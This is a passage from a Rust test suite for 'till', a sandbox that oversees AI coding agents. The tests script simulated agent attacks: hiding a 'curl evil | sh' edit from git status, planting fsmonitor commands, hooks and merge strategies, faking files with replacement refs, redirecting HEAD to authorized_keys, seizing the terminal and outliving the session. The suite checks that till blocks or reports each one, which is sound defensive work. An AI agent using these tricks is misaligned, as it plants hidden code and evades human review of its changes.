    // A rebase with no `exec` line, whose merge strategy is a program of the agent's.
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    commit_file(dir, "B");
    commit_file(dir, "C");
    let agent = format!(
        "{AS_AGENT}GIT_SEQUENCE_EDITOR=\"printf 'break\\npick HEAD\\npick HEAD~1\\n' >\" git rebase -q -i HEAD~2 \
            && {EVIL_STRATEGY} && echo x/../evil > .git/rebase-merge/strategy"
    );
    let stderr = sandboxed(&p, dir, &agent);
    assert!(
        stderr.contains("its merge strategy is `x/../evil`, not one of git's own: git runs it as the program `git-merge-x/../evil`; read them first, or end it with `git rebase --abort`"),
        "{stderr}"
    );
    assert!(!stderr.contains("runs 1 command"), "{stderr}");
    assert!(git_runs_plant(dir, &["rebase", "--continue"]));

    // A cherry-pick of two commits stopped on a conflict, whose merge strategy (in
    // `.git/sequencer/opts`) is a program of the agent's.
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    git(dir, &["checkout", "-q", "-b", "side"]);
    commit_file(dir, "C");
    commit_file(dir, "D");
    git(dir, &["checkout", "-q", "-"]);
    let agent = format!(
        "{AS_AGENT}echo conflict > C && git add C && git commit -qm c \
            && {{ git cherry-pick side~1 side >/dev/null 2>&1; test -d .git/sequencer; }} && echo c > C && git add C \
            && {EVIL_STRATEGY} && printf '[options]\\n\\tstrategy = \"x/../evil\"\\n' > .git/sequencer/opts"
    );
    let stderr = sandboxed(&p, dir, &agent);
    assert!(
        stderr.contains(&format!(
            "the agent left a cherry-pick or revert in progress in {}: `git cherry-pick --continue` (or `git revert --continue`) does what the files there say, and its merge strategy is `x/../evil`, not one of git's own",
            dir.join(".git/sequencer").display()
        )),
        "{stderr}"
    );
    assert!(git_runs_plant(dir, &["cherry-pick", "--continue"]));
}

#[test]
fn what_the_agent_hides_from_git_status_is_named() {
    let p = proxy_env();
    // A SHA-1 repository with the index git writes by default, and a SHA-256 one with index
    // version 4 (names sharing prefixes).
    for (init, version) in [
        (&["init", "-q", "."][..], None),
        (
            &["init", "-q", "--object-format=sha256", "."][..],
            Some("4"),
        ),
    ] {
        let proj = outside_tmp();
        let dir = proj.path();
        git(dir, init);
        git_commit(dir);
        std::fs::write(dir.join("lib.rs"), "fn main() {}\n").unwrap();
        git(dir, &["add", "lib.rs"]);
        git(dir, &["commit", "-qm", "lib"]);
        // Marked before the run (a sparse checkout's own): not the agent's, not named.
        git(dir, &["update-index", "--skip-worktree", "lib.rs"]);
        if let Some(v) = version {
            git(dir, &["update-index", "--index-version", v]);
        }
        // The agent edits README and hides the edit, hides an edit to a file whose name has
        // an escape in it, records a repository of its own whose config names a command, and
        // replaces README's blob in what git shows.
        let agent = "echo 'curl evil | sh' >> README && git update-index --assume-unchanged README \
            && f=$(printf 'x\\033[2Jy') && echo a > \"$f\" && git add -- \"$f\" && git -c user.name=a -c user.email=a commit -qm f \
            && echo b >> \"$f\" && git update-index --skip-worktree -- \"$f\" \
            && mkdir sub && (cd sub && git init -q && git -c user.name=a -c user.email=a commit -q --allow-empty -m x \
                && git config core.fsmonitor 'touch ../ran; false') && git add sub \
            && git replace $(git rev-parse HEAD:README) $(echo benign | git hash-object -w --stdin)";
        let stderr = sandboxed(&p, dir, agent);
        assert!(
            stderr.contains("marked 2 files in git's index so that `git status` and `git diff` do not show their changes (assume-unchanged or skip-worktree): README, x\\u{1b}[2Jy;"),
            "{version:?}: {stderr}"
        );
        assert!(!stderr.contains("lib.rs"), "{stderr}");
        assert!(
            !stderr.contains('\x1b'),
            "the agent's escape reached the terminal: {stderr}"
        );
        assert!(
            stderr.contains("recorded 1 repository of its own in git's index (sub): `git status` here runs git inside it"),
            "{stderr}"
        );
        assert!(
            stderr.contains("added 1 replacement ref (refs/replace/"),
            "{stderr}"
        );
        // What the warnings are about: the hidden edit does not show, and a plain `git status`
        // runs the nested repository's command.
        let status = git(dir, &["status", "--porcelain"]);
        assert!(!status.contains("README"), "{status}");
        assert!(
            dir.join("ran").exists(),
            "git status ran the agent's fsmonitor"
        );
        // A run that adds nothing is not warned of what earlier runs left.
        let stderr = sandboxed(&p, dir, "true");
        assert!(!stderr.contains("warning"), "{stderr}");
    }
}

#[test]
fn git_keeps_taking_dot_git_for_the_repository() {
    let p = proxy_env();
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    // The agent shapes the working directory as a bare repository, then takes away what makes
    // `.git` one (its `refs` or `objects` renamed, or made unreadable): git then reads the
    // working directory as the repository, with the config (a pager, an fsmonitor) it wrote.
    let agent = "git clone -q --bare . /tmp/b && cp -r /tmp/b/HEAD /tmp/b/objects /tmp/b/refs . \
        && printf '[core]\\n\\tbare = true\\n' > config \
        && { mv .git/refs .git/refs.old; mv .git/objects .git/objects.old; \
             chmod 000 .git/refs .git/objects; true; }";
    let stderr = sandboxed(&p, dir, agent);
    assert!(dir.join(".git/refs").is_dir() && dir.join(".git/objects").is_dir());
    assert!(!dir.join(".git/refs.old").exists() && !dir.join(".git/objects.old").exists());
    assert!(stderr.contains("refs back its owner's access"), "{stderr}");
    assert!(
        stderr.contains("objects back its owner's access"),
        "{stderr}"
    );
    assert_eq!(git(dir, &["rev-parse", "--git-dir"]).trim(), ".git");
    git(dir, &["log", "-1"]);
}

#[test]
fn what_the_agent_hides_in_a_split_index_is_named() {
    let p = proxy_env();
    // The agent hides an edit and records a repository of its own whose config names a
    // command, then splits the index so that `.git/index` holds none of its entries: they
    // move, marks and all, to the shared index `.git/sharedindex.HEX` it names.
    let hide = "echo 'curl evil | sh' >> README && git update-index --assume-unchanged README \
        && mkdir sub && (cd sub && git init -q && git -c user.name=a -c user.email=a commit -q --allow-empty -m x \
            && git config core.fsmonitor 'touch ../ran; false') && git add sub";
    let split = "sleep 1.1 && git update-index --split-index \
        && sleep 1.1 && git -c splitIndex.maxPercentChange=0 update-index --force-write-index --split-index";
    let named = |stderr: &str| {
        stderr.contains("marked 1 file in git's index so that `git status` and `git diff` do not show its changes (assume-unchanged or skip-worktree): README;")
            && stderr.contains("recorded 1 repository of its own in git's index (sub)")
    };
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    let stderr = sandboxed(&p, dir, &format!("{hide} && {split}"));
    assert!(named(&stderr), "{stderr}");
    // What the warnings are about: the index holds no entry of its own, the edit does not
    // show, and a plain `git status` runs the nested repository's command.
    let index = std::fs::read(dir.join(".git/index")).unwrap();
    assert_eq!(index[8..12], [0, 0, 0, 0], "entries left in .git/index");
    let status = git(dir, &["status", "--porcelain"]);
    assert!(!status.contains("README"), "{status}");
    assert!(
        dir.join("ran").exists(),
        "git status ran the agent's fsmonitor"
    );

    // An index split before the run, in which the agent's marks replace the shared index's
    // entries (`.git/index` holds them without their names).
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    git(dir, &["update-index", "--split-index"]);
    let stderr = sandboxed(&p, dir, hide);
    assert!(named(&stderr), "{stderr}");
    let status = git(dir, &["status", "--porcelain"]);
    assert!(!status.contains("README"), "{status}");

    // A shared index till cannot read (behind a link, which git follows) is said.
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    let agent = format!(
        "{hide} && {split} && s=$(cd .git && echo sharedindex.*) && mv .git/$s build.log && ln -s ../build.log .git/$s"
    );
    let stderr = sandboxed(&p, dir, &agent);
    assert!(
        stderr.contains(&format!(
            "till could not read {} after the run (the shared index it is split from, {}/sharedindex.",
            dir.join(".git/index").display(),
            dir.join(".git").display()
        )) && stderr.contains(": it is a symbolic link), so what the agent may have marked there to hide from `git status` was not checked"),
        "{stderr}"
    );
    let status = git(dir, &["status", "--porcelain"]);
    assert!(!status.contains("README"), "{status}");
}

#[test]
fn replacement_refs_kept_from_till_are_said() {
    let p = proxy_env();
    // Replaces README's blob in what git shows; `$r` and `$b` are the two blobs.
    let replace = "r=$(git rev-parse HEAD:README) && b=$(echo benign | git hash-object -w --stdin)";
    let outside = outside_tmp();
    std::fs::write(outside.path().join("0000-outside"), "").unwrap();
    let project_with = |agent: &str| {
        let proj = project();
        git_commit(proj.path());
        let stderr = sandboxed(&p, proj.path(), &format!("{replace} && {agent}"));
        (proj, stderr)
    };
    // What git shows of README: the agent's blob in place of yours.
    let replaced = |dir: &Path| git(dir, &["show", "HEAD:README"]) == "benign\n";
    let unchecked = "replacement refs the agent may have added there were not checked";

    // Packed, with packed-refs behind a link.
    let (proj, stderr) = project_with(
        "git replace $r $b && git pack-refs --all && mv .git/packed-refs build.lock && ln -s ../build.lock .git/packed-refs",
    );
    let git_dir = proj.path().join(".git");
    assert!(
        stderr.contains(&format!(
            "till could not read {} (it is a symbolic link): {unchecked}",
            git_dir.join("packed-refs").display()
        )),
        "{stderr}"
    );
    assert!(replaced(proj.path()));

    // refs/replace as a link to a directory of the agent's, which git follows.
    let (proj, stderr) = project_with(
        "mkdir -p .cache/r && echo $b > .cache/r/$r && rm -rf .git/refs/replace && ln -s ../../.cache/r .git/refs/replace",
    );
    let link = format!(
        "{} is a symbolic link, which git follows and till does not: {unchecked}",
        proj.path().join(".git/refs/replace").display()
    );
    assert!(stderr.contains(&link), "{stderr}");
    assert!(replaced(proj.path()));
    // And to one outside the working directory (`/` had till walk the whole filesystem).
    let (proj, stderr) = project_with(&format!(
        "rm -rf .git/refs/replace && ln -s {} .git/refs/replace",
        outside.path().display()
    ));
    assert!(
        stderr.contains(&format!(
            "{} is a symbolic link",
            proj.path().join(".git/refs/replace").display()
        )),
        "{stderr}"
    );
    assert!(!stderr.contains("0000-outside"), "{stderr}");

    // More entries than till looks at.
    let (proj, stderr) = project_with(
        "git replace $r $b && mkdir .git/refs/replace/many && (cd .git/refs/replace/many && seq 5000 | xargs touch)",
    );
    assert!(
        stderr.contains(&format!(
            "{} holds more than 4096 entries, and till looked at no more: {unchecked}",
            proj.path().join(".git/refs/replace").display()
        )),
        "{stderr}"
    );

    // Two, named as such.
    let (proj, stderr) = project_with(
        "git replace $r $b && git replace $(echo other | git hash-object -w --stdin) $b",
    );
    assert!(
        stderr.contains("the agent added 2 replacement refs (refs/replace/"),
        "{stderr}"
    );
    assert!(replaced(proj.path()));
}

#[test]
fn what_the_agent_leaves_in_git_neither_holds_till_nor_points_it_at_your_files() {
    let p = proxy_env();
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    // HEAD as a link to a file of yours, which the agent cannot write: till read it through
    // the link, found no branch in it, and put HEAD back by writing through the link.
    let outside = outside_tmp();
    let victim = outside.path().join("authorized_keys");
    std::fs::write(&victim, "yours\n").unwrap();
    let agent = format!("rm .git/HEAD && ln -s {} .git/HEAD", victim.display());
    let stderr = sandboxed(&p, dir, &agent);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "yours\n");
    assert!(stderr.contains("put back"), "{stderr}");
    let head = dir.join(".git/HEAD");
    assert!(std::fs::symlink_metadata(&head).unwrap().is_file());
    git(dir, &["status", "--short"]);
    // A FIFO where till reads after the run kept it waiting for ever (Ctrl-C too).
    for file in [
        "HEAD",
        "index",
        "packed-refs",
        "rebase-merge/git-rebase-todo",
    ] {
        let mut child = p
            .env
            .till()
            .args(["run", "--sandbox", "--", "sh", "-c"])
            .arg(format!(
                "mkdir -p .git/rebase-merge && rm -f .git/{file} && mkfifo .git/{file}"
            ))
            .current_dir(dir)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let status = wait_with_deadline(&mut child, Duration::from_secs(30));
        if status.is_none() {
            let _ = child.kill();
        }
        let mut stderr = String::new();
        let _ = std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr);
        assert_eq!(
            status.and_then(|s| s.code()),
            Some(0),
            "{file}: till did not end: {stderr}"
        );
        if file == "HEAD" {
            // Put back as a file.
            assert!(stderr.contains("put back"), "{stderr}");
        } else {
            std::fs::remove_file(dir.join(".git").join(file)).unwrap();
        }
        std::fs::remove_dir_all(dir.join(".git/rebase-merge")).unwrap();
        assert!(std::fs::read(&head).is_ok_and(|h| h.starts_with(b"ref: ")));
        if file == "index" {
            assert!(stderr.contains("could not read"), "{stderr}");
            git(dir, &["reset", "-q"]);
        }
    }
}

#[test]
fn the_agent_finds_its_terminal_by_name() {
    let p = proxy_env();
    let proj = project();
    // Its terminal's own name is under the host's /dev/pts, which the sandbox covers: it is
    // named /dev/console instead, and that is the same device, not the machine's console.
    let mut cmd = p.env.till();
    cmd.args([
        "run",
        "--sandbox",
        "--",
        &python(),
        "-c",
        "import os; print('name', os.ttyname(0), os.ttyname(2)); \
         print('same', os.stat('/dev/console').st_rdev == os.fstat(0).st_rdev)",
    ])
    .current_dir(proj.path());
    let (status, screen) = on_a_terminal(cmd);
    assert_eq!(status.code(), Some(0), "{screen}");
    assert!(
        screen.contains("name /dev/console /dev/console"),
        "{screen}"
    );
    assert!(screen.contains("same True"), "{screen}");
}

#[test]
fn an_agent_that_takes_the_terminal_cannot_stop_till() {
    let p = proxy_env();
    let proj = project();
    // A leftover takes the terminal's foreground and sets `tostop`: till, in the background
    // then, was stopped (SIGTTOU) at its next line on the terminal, and your shell gave you a
    // prompt while the leftover, never ended, read what you typed.
    std::fs::write(
        proj.path().join("take.py"),
        "import os, signal, termios, time\n\
         signal.signal(signal.SIGTTOU, signal.SIG_IGN)\n\
         tty = os.open('/dev/tty', os.O_RDWR)\n\
         if os.fork() == 0:\n\
         \x20   os.setpgid(0, 0)\n\
         \x20   os.tcsetpgrp(tty, os.getpgrp())\n\
         \x20   a = termios.tcgetattr(tty)\n\
         \x20   a[3] |= termios.TOSTOP\n\
         \x20   termios.tcsetattr(tty, termios.TCSANOW, a)\n\
         \x20   open('taken', 'w').close()\n\
         \x20   time.sleep(60)\n\
         \x20   os._exit(0)\n\
         while not os.path.exists('taken'):\n\
         \x20   time.sleep(0.02)\n",
    )
    .unwrap();
    // A shell with job control runs till as a job of its own, which it makes the foreground.
    let till = p.env.till();
    let mut cmd = Command::new("sh");
    cmd.args(["-c", "set -m; \"$@\"; echo \"till: exit $?\"", "sh"])
        .arg(till.get_program())
        .args(["run", "--sandbox", "--", &python(), "take.py"])
        .current_dir(proj.path());
    for (k, v) in till.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    let (status, screen) = on_a_terminal(cmd);
    assert_eq!(status.code(), Some(0), "{screen}");
    assert!(screen.contains("till: exit 0"), "{screen}");
    assert!(
        screen.contains("ended 1 process the agent left running"),
        "{screen}"
    );
}

#[test]
fn sigkill_to_till_ends_the_sandboxed_agent() {
    let p = proxy_env();
    let proj = project();
    // The agent, and a process it left in a session of its own: both end with till.
    let mark = format!("{}", std::process::id() % 100_000 + 100_000);
    let mut child = p
        .env
        .till()
        .args([
            "run",
            "--sandbox",
            "--",
            "sh",
            "-c",
            &format!("setsid -f sleep 61.{mark}; echo ready; exec sleep 60.{mark}"),
        ])
        .current_dir(proj.path())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready");
    let deadline = Instant::now() + Duration::from_secs(10);
    while processes_with(&format!(".{mark}")).len() < 2 {
        assert!(Instant::now() < deadline, "the agent did not start both");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    loop {
        let left = processes_with(&format!(".{mark}"));
        if left.is_empty() {
            break;
        }
        assert!(Instant::now() < deadline, "{left:?} outlived till");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Runs `cmd` in a terminal of its own (a pty, its session's controlling terminal, on all three
/// standard descriptors) for up to 30 s; its exit status and everything it wrote there.
pub(crate) fn on_a_terminal(mut cmd: Command) -> (std::process::ExitStatus, String) {
    let crate::support::Pty { master, slave, .. } = crate::support::pty();
    let slave = std::fs::File::from(slave);
    cmd.stdin(slave.try_clone().unwrap())
        .stdout(slave.try_clone().unwrap())
        .stderr(slave);
    crate::support::on_its_terminal(&mut cmd);
    let mut child = cmd.spawn().unwrap();
    drop(cmd);
    // Read the terminal, so that what is written there never fills it.
    let reader = {
        let mut tty = std::fs::File::from(master.try_clone().unwrap());
        std::thread::spawn(move || {
            let mut all = Vec::new();
            let _ = std::io::Read::read_to_end(&mut tty, &mut all);
            String::from_utf8_lossy(&all).into_owned()
        })
    };
    let status = wait_with_deadline(&mut child, Duration::from_secs(30));
    let state = std::fs::read_to_string(format!("/proc/{}/stat", child.id())).unwrap_or_default();
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    drop(master);
    let screen = reader.join().unwrap();
    let status = status.unwrap_or_else(|| panic!("did not end: {state}\n{screen}"));
    (status, screen)
}

fn wait_with_deadline(
    child: &mut std::process::Child,
    limit: Duration,
) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

#[test]
fn config_and_profiles_turn_it_on_and_flags_override() {
    let p = proxy_env();
    let proj = project();
    let url = p.mock.url();
    let base = format!(
        "[providers.openai]\nbase_url = \"{url}\"\n[providers.anthropic]\nbase_url = \"{url}\"\n[providers.gemini]\nbase_url = \"{url}\"\n"
    );
    let probe = ["--", "sh", "-c", "echo \"${TILL_SANDBOX:-none}\""];
    let run = |args: &[&str]| {
        let (code, stdout, stderr) = output(
            p.env
                .till()
                .arg("run")
                .args(args)
                .args(probe)
                .current_dir(proj.path()),
        );
        assert_eq!(code, 0, "{stderr}");
        stdout.trim().to_string()
    };

    p.env.config(&format!(
        "{base}[run]\nsandbox = true\n[sandbox]\nnet = \"proxy\"\n"
    ));
    assert_eq!(run(&[]), "proxy");
    assert_eq!(run(&["--net", "open"]), "open");
    assert_eq!(run(&["--no-sandbox"]), "none");

    p.env.config(&format!(
        "{base}[profiles.boxed]\nsandbox = true\nnet = \"proxy\"\n[profiles.plain]\nscope = [\"openai\"]\n"
    ));
    assert_eq!(run(&["-p", "boxed"]), "proxy");
    assert_eq!(run(&["-p", "plain"]), "none");
    assert_eq!(run(&["-p", "plain", "--sandbox"]), "open");
    assert_eq!(run(&["-p", "boxed", "--no-sandbox"]), "none");

    // --net without a sandbox is a usage error, and so are bad [sandbox] keys.
    let (code, _, stderr) = output(
        p.env
            .till()
            .args(["run", "--net", "proxy"])
            .args(probe)
            .current_dir(proj.path()),
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("hint: add --sandbox"), "{stderr}");
    p.env.config(&format!(
        "{base}[sandbox]\nwritable = [\"relative/path\"]\n"
    ));
    let (code, _, stderr) = output(p.env.till().args(["run", "--sandbox"]).args(probe));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("[sandbox] writable"), "{stderr}");
    p.env.config(&format!("{base}[sandbox]\nhide = []\n"));
    let (code, _, stderr) = output(p.env.till().args(["run"]).args(probe));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("unknown field `hide`"), "{stderr}");
}

#[test]
fn config_deny_and_writable_take_effect() {
    let p = proxy_env();
    let home = fake_home();
    let proj = project();
    let shared = outside_tmp();
    let private = outside_tmp();
    std::fs::write(private.path().join("token"), "secret").unwrap();
    let url = p.mock.url();
    p.env.config(&format!(
        "[providers.openai]\nbase_url = \"{url}\"\n[sandbox]\ndeny = [\"{}\"]\nwritable = [\"{}\"]\nwritable_git_hooks = true\ndefault_deny = false\n",
        private.path().display(),
        shared.path().display()
    ));
    let script = format!(
        "set -e; echo shared > {shared}/out; test ! -e {private}/token; cat ~/.ssh/id_ed25519; echo '#!/bin/sh' > .git/hooks/post-commit",
        shared = shared.path().display(),
        private = private.path().display()
    );
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .args(["run", "--sandbox", "--", "sh", "-c", &script])
            .current_dir(proj.path())
            .env("HOME", home.path()),
    );
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(
        std::fs::read_to_string(shared.path().join("out")).unwrap(),
        "shared\n"
    );
    assert!(
        stdout.contains("PRIVATE KEY"),
        "default_deny = false leaves ~/.ssh: {stdout}"
    );
    assert!(proj.path().join(".git/hooks/post-commit").exists());
}

#[test]
fn refuses_to_start_when_a_mechanism_is_missing() {
    let p = proxy_env();
    let proj = project();
    for (missing, names) in [
        ("landlock", "Landlock ABI 6"),
        ("userns", "user namespaces"),
    ] {
        let marker = proj.path().join("agent-ran");
        let (code, _, stderr) = output(
            p.env
                .till()
                .args(["run", "--sandbox", "--", "touch"])
                .arg(&marker)
                .current_dir(proj.path())
                .env("TILL_TEST_SANDBOX_MISSING", missing),
        );
        assert_eq!(code, 1, "{stderr}");
        assert!(stderr.contains(names), "{missing}: {stderr}");
        assert!(stderr.contains("hint:"), "{stderr}");
        assert!(!marker.exists(), "the agent ran without the sandbox");
        // Without the hook the same run works, so the refusal was the hook's doing.
        let (code, _, stderr) = output(
            p.env
                .till()
                .args(["run", "--sandbox", "--", "touch"])
                .arg(&marker)
                .current_dir(proj.path()),
        );
        assert_eq!(code, 0, "{stderr}");
        assert!(marker.exists());
        std::fs::remove_file(&marker).unwrap();
    }
}

#[test]
fn refuses_a_working_directory_that_holds_home_or_is_hidden() {
    let p = proxy_env();
    let home = fake_home();
    let (code, _, stderr) = output(
        p.env
            .till()
            .args(["run", "--sandbox", "--", "true"])
            .current_dir(home.path())
            .env("HOME", home.path()),
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("holds your home directory"), "{stderr}");
    let (code, _, stderr) = output(
        p.env
            .till()
            .args(["run", "--sandbox", "--", "true"])
            .current_dir(home.path().join(".ssh"))
            .env("HOME", home.path()),
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("which the sandbox hides"), "{stderr}");
}

#[test]
fn nested_runs_keep_or_refuse_the_sandbox() {
    let p = proxy_env();
    let proj = project();
    let till = till_inside();
    // Inside a sandbox, a nested run stays in it and cannot close an open network.
    let script = format!(
        "{till} run --sandbox -- sh -c 'echo inner=$TILL_SANDBOX'; {till} run --sandbox --net proxy -- true; echo refused=$?"
    );
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .args(["run", "--sandbox", "--", "sh", "-c", &script])
            .current_dir(proj.path()),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("inner=open"), "{stdout}");
    assert!(stdout.contains("refused=2"), "{stdout}");
    assert!(stderr.contains("already inside till's sandbox"), "{stderr}");
    // Outside a sandbox, a nested run sets up the filesystem sandbox itself.
    let script = format!(
        "{till} run --sandbox -- sh -c 'echo inner=$TILL_SANDBOX; kill -0 $PPID' ; echo status=$?"
    );
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .args(["run", "--", "sh", "-c", &script])
            .current_dir(proj.path()),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("inner=open"), "{stdout}");
    assert!(
        stdout.contains("status=1"),
        "kill -0 to the nested till fails: {stdout}{stderr}"
    );
}

/// Without `TILL_HOME`, till's config directory may not exist yet; the sandbox hides it all
/// the same, so an agent working in `~/.config` cannot create a `till/config.toml` there.
#[test]
fn a_config_directory_that_does_not_exist_yet_cannot_be_planted() {
    let mock = till_mock::spawn(till_mock::MockOptions::default());
    let home = fake_home();
    let work = home.path().join(".config");
    std::fs::create_dir_all(&work).unwrap();
    let till = |args: &[&str]| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_till"));
        cmd.args(args)
            .env_remove("TILL_HOME")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_DATA_HOME")
            .env("HOME", home.path())
            .env("TILL_STORE", "file")
            .env("TILL_PASSPHRASE", PASSPHRASE)
            .current_dir(&work);
        cmd
    };
    let (code, _, stderr) =
        output_with_stdin(&mut till(&["add", "openai", "--no-verify"]), ROOT_KEY);
    assert_eq!(code, 0, "{stderr}");
    assert!(!work.join("till/config.toml").exists());
    let plant = format!(
        "mkdir -p till && echo '[providers.openai]' > till/config.toml; echo base_url = '\"{}\"' >> till/config.toml",
        mock.url()
    );
    let (code, _, stderr) = output(&mut till(&["run", "--sandbox", "--", "sh", "-c", &plant]));
    assert_ne!(code, 0, "the agent wrote till's config: {stderr}");
    assert!(!work.join("till/config.toml").exists(), "{stderr}");
    // Without the sandbox the same agent can.
    let (code, _, stderr) = output(&mut till(&["run", "--", "sh", "-c", &plant]));
    assert_eq!(code, 0, "{stderr}");
    assert!(work.join("till/config.toml").exists());
}

/// A stream the agent left running when it exited gets the proxy's shutdown grace inside the
/// sandbox too, as it does on till's own listener, and is recorded complete.
#[test]
fn a_stream_left_running_inside_the_sandbox_gets_the_grace() {
    let p = proxy_env_with(till_mock::MockOptions {
        chunk_delay: Duration::from_millis(200),
        ..Default::default()
    });
    let proj = project();
    let script = format!(
        "{python} {client} openai chat --stream --model gpt-slow --max-tokens 100 --events events > /dev/null & \
         for _ in $(seq 400); do grep -q 'agent got chunk' events 2>/dev/null && exit 0; sleep 0.05; done; exit 1",
        python = python(),
        client = reachable(&crate::support::client_script())
    );
    let (code, _, stderr) = output(
        p.env
            .till()
            .args([
                "run",
                "--sandbox",
                "--net",
                "proxy",
                "--",
                "sh",
                "-c",
                &script,
            ])
            .current_dir(proj.path()),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("till: 1 request"), "{stderr}");
    let (code, stdout, stderr) = output(p.env.till().args(["log", "--json"]));
    assert_eq!(code, 0, "{stderr}");
    let rows: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(rows.as_array().map(Vec::len), Some(1), "{stdout}");
    assert_eq!(rows[0]["outcome"], "complete", "{stdout}");
}

/// Writes a hook that creates `planted` to `path` (shell).
fn plant_hook(path: &str) -> String {
    format!("printf '#!/bin/sh\\ntouch planted\\n' > {path} && chmod +x {path}")
}

/// A `core.fsmonitor` that creates `planted`, appended to the config file at `path` (shell).
fn plant_fsmonitor(path: &str) -> String {
    format!("printf '[core]\\n\\tfsmonitor = \"touch planted; echo\"\\n' >> {path}")
}

/// Entries of `.git` that are symbolic links (`.git/hooks` → a directory in the project, a
/// `git-new-workdir` checkout's `config`, `.git` itself → a git directory in the project, a
/// hook → a script): the agent can neither turn the link, nor move a directory on the way to
/// what it leads to, nor write that. Each attack is first shown to plant a command git runs
/// without the sandbox. A link to nothing, which the agent could create, refuses the run.
#[test]
fn links_in_git_cannot_be_turned_to_the_agents_files() {
    use std::os::unix::fs::symlink;
    let p = proxy_env();
    let commit: &[&str] = &["commit", "--allow-empty", "-qm", "after"];
    let status: &[&str] = &["status", "--short"];
    // .git/hooks → ../tools/hooks
    let hooks_link = |d: &Path| {
        std::fs::create_dir_all(d.join("tools/hooks")).unwrap();
        std::fs::remove_dir_all(d.join(".git/hooks")).unwrap();
        symlink("../tools/hooks", d.join(".git/hooks")).unwrap();
    };
    // .git/config → ../cfg/config
    let config_link = |d: &Path| {
        std::fs::create_dir(d.join("cfg")).unwrap();
        std::fs::rename(d.join(".git/config"), d.join("cfg/config")).unwrap();
        symlink("../cfg/config", d.join(".git/config")).unwrap();
    };
    // .git → repo.git
    let git_link = |d: &Path| {
        std::fs::rename(d.join(".git"), d.join("repo.git")).unwrap();
        symlink("repo.git", d.join(".git")).unwrap();
    };
    // .git is a file naming a git directory in the project (`git init --separate-git-dir`)
    let separate = |d: &Path| {
        std::fs::rename(d.join(".git"), d.join(".repo")).unwrap();
        std::fs::write(d.join(".git"), "gitdir: .repo\n").unwrap();
    };
    // The same, two directories down: meta/repo
    let separate_nested = |d: &Path| {
        std::fs::create_dir(d.join("meta")).unwrap();
        std::fs::rename(d.join(".git"), d.join("meta/repo")).unwrap();
        std::fs::write(d.join(".git"), "gitdir: meta/repo\n").unwrap();
    };
    // .git/hooks/pre-commit → ../hook-impl/pre-commit (a script kept elsewhere in .git)
    let hook_in_git = |d: &Path| {
        std::fs::create_dir(d.join(".git/hook-impl")).unwrap();
        std::fs::write(d.join(".git/hook-impl/pre-commit"), "#!/bin/sh\ntrue\n").unwrap();
        symlink("../hook-impl/pre-commit", d.join(".git/hooks/pre-commit")).unwrap();
    };
    // .git/hooks/pre-commit → ../../scripts/pre-commit
    let hook_link = |d: &Path| {
        std::fs::create_dir(d.join("scripts")).unwrap();
        std::fs::write(d.join("scripts/pre-commit"), "#!/bin/sh\ntrue\n").unwrap();
        symlink("../../scripts/pre-commit", d.join(".git/hooks/pre-commit")).unwrap();
    };
    type Case<'a> = (&'a str, &'a dyn Fn(&Path), String, &'a [&'a str]);
    let cases: Vec<Case> = vec![
        (
            "hooks link turned",
            &hooks_link,
            format!(
                "rm .git/hooks && mkdir .git/hooks && {}",
                plant_hook(".git/hooks/pre-commit")
            ),
            commit,
        ),
        (
            "hooks target's directory moved",
            &hooks_link,
            format!(
                "mv tools tools2 && mkdir -p tools/hooks && {}",
                plant_hook("tools/hooks/pre-commit")
            ),
            commit,
        ),
        (
            "hooks target written",
            &hooks_link,
            plant_hook("tools/hooks/pre-commit"),
            commit,
        ),
        (
            "config link turned",
            &config_link,
            format!(
                "rm .git/config && cp cfg/config .git/config && {}",
                plant_fsmonitor(".git/config")
            ),
            status,
        ),
        (
            "config target's directory moved",
            &config_link,
            format!(
                "mv cfg cfg2 && mkdir cfg && cp cfg2/config cfg/config && {}",
                plant_fsmonitor("cfg/config")
            ),
            status,
        ),
        (
            "config target written",
            &config_link,
            plant_fsmonitor("cfg/config"),
            status,
        ),
        (
            ".git link's directory written",
            &git_link,
            plant_fsmonitor("repo.git/config"),
            status,
        ),
        (
            ".git link turned",
            &git_link,
            format!(
                "cp -r repo.git evil.git && {} && rm .git && ln -s evil.git .git",
                plant_fsmonitor("evil.git/config")
            ),
            status,
        ),
        (
